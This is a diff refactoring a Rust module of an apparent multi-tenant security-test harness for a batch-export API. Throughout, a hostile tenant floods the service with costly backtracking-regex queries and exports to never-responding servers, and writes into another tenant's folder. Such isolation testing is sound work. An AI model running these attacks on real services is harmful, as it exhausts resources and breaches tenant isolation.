@@ -1,6 +1,6 @@
-//! Exports that cost as much as they may: queries, servers that hang, folders of other people.
+//! Exports of the highest cost: slow queries, servers that hang, folders of other tenants.
 
-use super::{Arsenal, EXPORT_FOLDER};
+use super::context::{AttackContext, EXPORT_FOLDER};
 use crate::attack::http::Outcome;
 use crate::attack::tenants::text;
 use anyhow::{Context, Result};
@@ -12,10 +12,10 @@ use std::sync::Arc;
 use tokio::net::TcpListener;
 use tokio::time::sleep;
 
-/// Exports that are kept before they are deleted again.
+/// Exports that are kept before the oldest are deleted.
 const KEPT: usize = 8;
 
-/// A server on this machine that takes connections and never says a word.
+/// Starts a server on this machine that accepts connections and never responds.
 pub(super) async fn hanging_server() -> Result<SocketAddr> {
     let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).await;
     let listener = listener.context("cannot listen")?;
@@ -29,8 +29,8 @@ pub(super) async fn hanging_server() -> Result<SocketAddr> {
     Ok(address)
 }
 
-/// Queries that are as costly as they get, into the folder that somebody else exports to.
-pub(super) async fn queries(arsenal: Arc<Arsenal>, mut rng: StdRng) {
+/// Creates exports with the most expensive queries, into the good tenant's folder.
+pub(super) async fn queries(context: Arc<AttackContext>, mut rng: StdRng) {
     let matched: Vec<String> = (0..20)
         .map(|number| format!("match(properties, 'a[ab]{{{}}}c')", 280 + number))
         .collect();
@@ -56,14 +56,14 @@ pub(super) async fn queries(arsenal: Arc<Arsenal>, mut rng: StdRng) {
             let destination = json!({"type": "FileSystem", "config": {"path": path}});
             let new = json!({"name": "Costly", "interval": "every 5 minutes",
                 "destination": destination, "hogql_query": query});
-            export(&arsenal, "costly exports", &new).await;
+            export(&context, "costly exports", &new).await;
         }
-        clear(&arsenal, KEPT).await;
+        clear(&context, KEPT).await;
     }
 }
 
-/// Destinations that take a connection and say nothing.
-pub(super) async fn hanging(arsenal: Arc<Arsenal>, hung: SocketAddr) {
+/// Creates exports to servers that accept a connection and never respond.
+pub(super) async fn hanging(context: Arc<AttackContext>, hung: SocketAddr) {
     let (host, port) = (hung.ip().to_string(), hung.port());
     let destinations = [
         json!({"type": "HTTP", "config": {"url": format!("http://{hung}/batch/"), "token": "t"}}),
@@ -76,36 +76,38 @@ pub(super) async fn hanging(arsenal: Arc<Arsenal>, hung: SocketAddr) {
     loop {
         for destination in &destinations {
             let new = json!({"name": "Hanging", "interval": "every 5 minutes", "destination": destination});
-            export(&arsenal, "exports to servers that hang", &new).await;
-            let test = arsenal
+            export(&context, "exports to servers that hang", &new).await;
+            let test = context
                 .tenants
                 .hostile
                 .ask("POST", "batch_exports/test/", &new);
             let outcome = test.await;
-            arsenal
-                .tally
+            context
+                .findings
                 .note("tests of destinations that hang", &outcome);
         }
-        clear(&arsenal, KEPT).await;
+        clear(&context, KEPT).await;
     }
 }
 
-/// Makes an export and has it export everything there is.
-async fn export(arsenal: &Arsenal, what: &str, new: &Value) {
-    let hostile = &arsenal.tenants.hostile;
+/// Creates an export and a backfill of all its events.
+async fn export(context: &AttackContext, what: &str, new: &Value) {
+    let hostile = &context.tenants.hostile;
     let made = hostile.ask("POST", "batch_exports/", new).await;
-    arsenal.tally.note(what, &made);
+    context.findings.note(what, &made);
     if let Some(id) = text(&made.json(), "/id") {
         let path = format!("batch_exports/{id}/backfill/");
         let backfilled = hostile.ask("POST", &path, &json!({})).await;
-        arsenal.tally.note("backfills of everything", &backfilled);
+        context
+            .findings
+            .note("backfills of everything", &backfilled);
     }
-    sleep(arsenal.pause * 20).await;
+    sleep(context.pause * 20).await;
 }
 
-/// Deletes the oldest exports, down to so many.
-pub(super) async fn clear(arsenal: &Arsenal, kept: usize) {
-    let hostile = &arsenal.tenants.hostile;
+/// Deletes the oldest exports until `kept` are left.
+pub(super) async fn clear(context: &AttackContext, kept: usize) {
+    let hostile = &context.tenants.hostile;
     let listed = hostile
         .ask("GET", "batch_exports/?limit=200", &Value::Null)
         .await;
@@ -120,6 +122,6 @@ pub(super) async fn clear(arsenal: &Arsenal, kept: usize) {
     for id in ids.iter().take(beyond) {
         let path = format!("batch_exports/{id}/");
         let deleted: Outcome = hostile.ask("DELETE", &path, &Value::Null).await;
-        arsenal.tally.note("deleted exports", &deleted);
+        context.findings.note("deleted exports", &deleted);
     }
 }
